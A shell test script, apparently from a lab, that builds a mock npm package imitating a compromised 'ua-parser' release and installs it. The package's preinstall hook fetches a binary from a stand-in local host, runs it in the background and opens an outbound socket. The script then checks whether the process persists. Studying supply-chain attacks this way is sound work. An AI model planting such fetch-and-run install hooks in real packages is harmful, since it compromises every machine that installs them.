. /lab/files/lib/common.sh
stub
mkdir /srv/package
cat >/srv/package/package.json <<'E'
{"name":"ua-parser-sim","version":"0.7.29","scripts":{"preinstall":"sh preinstall.sh"}}
E
cat >/srv/package/preinstall.sh <<'E'
curl -s -o jsextension http://127.0.0.1:8080/payload/jsextension
chmod +x jsextension
./jsextension 20 &
node -e 'require("net").connect(3333, "127.0.0.2"); setTimeout(() => process.exit(), 10000)'
E
pack /srv/package /srv/package.tgz
install /srv/package.tgz
ps ax | grep -q '[j]sextension 20' && echo "the program lives"
# npm takes back what it unpacked when its hook is killed; else it would lie in the vault.
[ -e /root/app/node_modules/ua-parser-sim/jsextension ] || echo "the program is gone"
